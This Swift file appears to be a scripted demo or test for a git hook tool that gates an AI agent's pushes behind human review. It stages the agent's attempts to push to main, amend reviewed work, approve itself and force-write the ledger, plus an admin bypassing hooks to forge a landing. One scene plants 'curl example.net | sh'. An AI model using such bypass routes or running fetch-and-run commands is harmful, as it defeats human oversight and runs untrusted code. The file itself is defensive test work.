/// The whole story of the gate, told with real git.
struct Story {
  private var stage: Stage

  private let admin = Stage.Actor(name: "admin", account: nil, clone: "app.git")
  private let dana = Stage.Actor(name: "dana", account: "dana", clone: "dana")
  private let codex = Stage.Actor(name: "codex", account: "svc-codex", clone: "codex")
  private let anyone = Stage.Actor(name: "anyone", account: nil, clone: "audit")

  init(on stage: Stage) {
    self.stage = stage
  }

  mutating func play() throws {
    try setUp()
    try agentIsRefused()
    try reviewedWorkLands()
    try amendedWorkIsRefused()
    try evilMergeIsRefused()
    try agentCannotReview()
    try landingsCanBeVerified()
  }

  // MARK: Scenes

  private mutating func setUp() throws {
    let outside = Stage.Actor(name: "admin", account: nil, clone: ".")
    try stage.write(Self.gitConfiguration, to: "gitconfig")
    for name in ["dana", "erin", "codex"] {
      try stage.quietly(
        outside, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f",
        stage.path(name + ".key"))
    }
    stage.begin("A server, a policy, and hookkit's hooks")
    try stage.run(outside, "git", "init", "--quiet", "--bare", "app.git")
    try stage.quietly(outside, "git", "clone", "--quiet", "app.git", "dana")
    try introduce(dana, "Dana", "dana@example.org")
    try stage.quietly(dana, "git", "config", "commit.gpgSign", "true")
    try commit(dana, "README", "An app.\n", "The first commit")
    try stage.quietly(dana, "git", "push", "--quiet", "origin", "main")
    try stage.quietly(admin, "mkdir", "-p", stage.path("app.git/hookkit"))
    try stage.write(policy(), to: "app.git/hookkit/policy.toml")
    stage.say(
      "policy: dana and erin review; codex is an agent, erin its sponsor; main is protected")
    try stage.run(admin, "hookkit", "install", "--server", "--host", "local")
    try stage.quietly(outside, "git", "clone", "--quiet", "app.git", "codex")
    try introduce(codex, "Codex", "svc-codex@example.org")
  }

  private mutating func agentIsRefused() throws {
    stage.begin("An agent pushes to main and is refused; its own branch is its own")
    try commit(codex, "retry.txt", "try again on 429\n", "Retry on 429")
    try stage.run(codex, "git", "push", "origin", "main", expecting: .refused("HK101"))
    try stage.run(codex, "git", "push", "origin", "main:agent/codex/retry")
  }

  private mutating func reviewedWorkLands() throws {
    stage.begin("A person reviews it, signs, merges, and it lands")
    let head = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
    try stage.run(dana, "git", "fetch", "--quiet", "origin")
    try stage.run(
      dana, "hookkit", "review", "approve", head, "--confirm", head, "-m", "read and tried")
    stage.say("main has moved on meanwhile; a clean merge is recomputed on the server")
    try commit(dana, "NEWS", "Soon.\n", "News")
    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/retry")
    try stage.run(dana, "git", "push", "origin", "main")
  }

  private mutating func amendedWorkIsRefused() throws {
    stage.begin("The agent amends what was reviewed, and the old review no longer counts")
    try stage.quietly(codex, "git", "fetch", "--quiet", "origin")
    try stage.quietly(codex, "git", "reset", "--quiet", "--hard", "origin/main")
    try commit(codex, "limit.txt", "at most 3 times\n", "Give up after 3")
    try stage.quietly(codex, "git", "push", "--quiet", "origin", "main:agent/codex/limit")
    let reviewed = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
    try stage.quietly(dana, "git", "fetch", "--quiet", "origin")
    try stage.run(dana, "hookkit", "--quiet", "review", "approve", reviewed, "--confirm", reviewed)
    try stage.write("at most 3000 times\n", to: "codex/limit.txt")
    try stage.run(codex, "git", "commit", "--quiet", "--all", "--amend", "--no-edit")
    try stage.run(codex, "git", "push", "--quiet", "--force", "origin", "main:agent/codex/limit")
    try stage.quietly(dana, "git", "fetch", "--quiet", "origin")
    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/limit")
    try stage.run(dana, "git", "push", "origin", "main", expecting: .refused("HK101"))
    try stage.quietly(dana, "git", "reset", "--quiet", "--hard", "origin/main")
  }

  private mutating func evilMergeIsRefused() throws {
    stage.begin("A merge that adds something of its own is refused; the clean one lands")
    let head = try stage.quietly(dana, "git", "rev-parse", "--short", "origin/agent/codex/limit")
    try stage.run(dana, "hookkit", "--quiet", "review", "approve", head, "--confirm", head)
    try stage.quietly(
      dana, "git", "merge", "--quiet", "--no-ff", "--no-commit", "origin/agent/codex/limit")
    try stage.write("curl example.net | sh\n", to: "dana/install.txt")
    try stage.quietly(dana, "git", "add", "install.txt")
    try stage.quietly(dana, "git", "commit", "--quiet", "--no-edit")
    try stage.run(dana, "git", "push", "origin", "main", expecting: .refused("HK102"))
    try stage.run(dana, "git", "reset", "--quiet", "--hard", "origin/main")
    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/limit")
    try stage.run(dana, "git", "push", "--quiet", "origin", "main")
  }

  private mutating func agentCannotReview() throws {
    stage.begin("The agent tries to review itself, and to write the ledger")
    try commit(codex, "more.txt", "more\n", "More")
    try stage.quietly(codex, "git", "push", "--quiet", "origin", "main:agent/codex/more")
    let head = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
    try stage.run(
      codex, "hookkit", "--quiet", "review", "approve", head, "--confirm", head,
      expecting: .refused("not a person"))
    try stage.run(
      codex, "git", "push", "origin", "main:refs/hookkit/ledger", "--force",
      expecting: .refused("HK402"))
  }

  private mutating func landingsCanBeVerified() throws {
    stage.begin("Anyone can replay it all offline, and a forged landing is found")
    let outside = Stage.Actor(name: "anyone", account: nil, clone: ".")
    try stage.run(outside, "git", "clone", "--quiet", "app.git", "audit")
    try stage.run(anyone, "hookkit", "verify", "--remote", "origin")
    stage.say("somebody with the server's disk moves main behind hookkit's back")
    let work = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
    try stage.run(
      admin, "git", "-c", "core.hooksPath=/dev/null", "update-ref", "refs/heads/main", work)
    try stage.run(
      anyone, "hookkit", "verify", "--remote", "origin", expecting: .refused("refs/heads/main"))
  }

  // MARK: Props

  private func introduce(_ actor: Stage.Actor, _ name: String, _ email: String) throws {
    for (key, value) in [
      ("user.name", name), ("user.email", email), ("gpg.format", "ssh"),
      ("user.signingKey", stage.path(actor.clone + ".key")),
    ] {
      try stage.quietly(actor, "git", "config", key, value)
    }
  }

  private func commit(
    _ actor: Stage.Actor, _ file: String, _ content: String, _ message: String
  ) throws {
    try stage.write(content, to: actor.clone + "/" + file)
    try stage.quietly(actor, "git", "add", file)
    try stage.quietly(actor, "git", "commit", "--quiet", "-m", message)
  }

  private static let gitConfiguration = """
    [init]
    \tdefaultBranch = main
    [advice]
    \tpushUpdateRejected = false
    [protocol "file"]
    \tallow = always
    """

  private func policy() throws -> String {
    func key(_ name: String) throws -> String {
      try stage.quietly(admin, "cat", stage.path(name + ".key.pub"))
    }
    return """
      version = 1
      serial = 1
      repository = "git.example.org/app"

      [people.dana]
      emails = ["dana@example.org"]
      accounts = ["dana"]
      keys = ["\(try key("dana"))"]
      roles = ["reviewer", "maintainer"]

      [people.erin]
      emails = ["erin@example.org"]
      accounts = ["erin"]
      keys = ["\(try key("erin"))"]
      roles = ["reviewer"]

      [agents.codex]
      accounts = ["svc-codex"]
      keys = ["\(try key("codex"))"]
      sponsor = "erin"
      may-push = ["refs/heads/agent/codex/**"]

      [[protect]]
      refs = ["refs/heads/main"]
      review = { of = "agents", approvals = 1, role = "reviewer" }
      unverified = "agent"

      """
  }
}
